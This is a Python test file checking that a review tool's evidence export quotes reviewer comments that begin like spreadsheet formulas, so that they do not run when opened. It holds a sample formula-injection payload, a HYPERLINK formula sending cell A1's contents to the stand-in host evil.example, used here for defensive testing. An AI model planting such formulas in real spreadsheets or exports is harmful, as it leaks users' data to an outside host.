"""reviews.csv and review_items.csv are opened in spreadsheets like the pack's other CSV files: a cell a
reviewer typed (a comment) that starts as a formula must not be run by the spreadsheet. The request files
quote such cells (verify_pack.py's ``cell``); the review files are written from the campaigns' records and
must do the same."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

from tests.reviews.test_decisions import started
from tests.support import MutableClock, cli, harness

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"details")'


async def test_a_review_comment_that_is_a_formula_is_quoted_in_review_items(database_url, tmp_path):
    """mark.mgr removes bob with a comment that a spreadsheet would run; the exported review_items.csv
    starts that cell with a quote (and the pack still verifies)."""
    now = datetime.now(UTC).replace(microsecond=0)
    async with harness(database_url, tmp_path, clock=MutableClock(now)) as h:
        items = await started(h)
        bob = items["bob@example.com"].number
        reply = await h.say("mark.mgr@example.com", f"remove RV-1 {bob} because {FORMULA}")
        assert reply.ok, reply.text
        files = h.files
    out = tmp_path / "pack.zip"
    first, last = (now - timedelta(days=1)).date().isoformat(), (now + timedelta(days=1)).date().isoformat()
    done = cli("evidence", "export", "--from", first, "--to", last, "--out", str(out), db=database_url, files=files)
    assert done.returncode == 0, done.stdout + done.stderr
    with zipfile.ZipFile(out) as zf:
        rows = list(csv.DictReader(io.StringIO(zf.read("review_items.csv").decode("utf-8"))))
    row = next(r for r in rows if r["user"] == "bob@example.com")
    assert row["comment"] == "'" + FORMULA, row
    for r in rows:
        for value in r.values():
            assert value[:1] not in ("=", "+", "-", "@", "\t", "\r"), r
    checked = shipped_verifier(out)
    assert checked.returncode == 0, checked.stdout + checked.stderr


def shipped_verifier(pack: Path) -> subprocess.CompletedProcess[str]:
    """python3 verify_pack.py PACK with the verifier the pack ships."""
    script = pack.with_name("verify_pack.py")
    with zipfile.ZipFile(pack) as zf:
        script.write_bytes(zf.read("verify_pack.py"))
    return subprocess.run([sys.executable, "-I", str(script), str(pack)], capture_output=True, text=True, timeout=300)
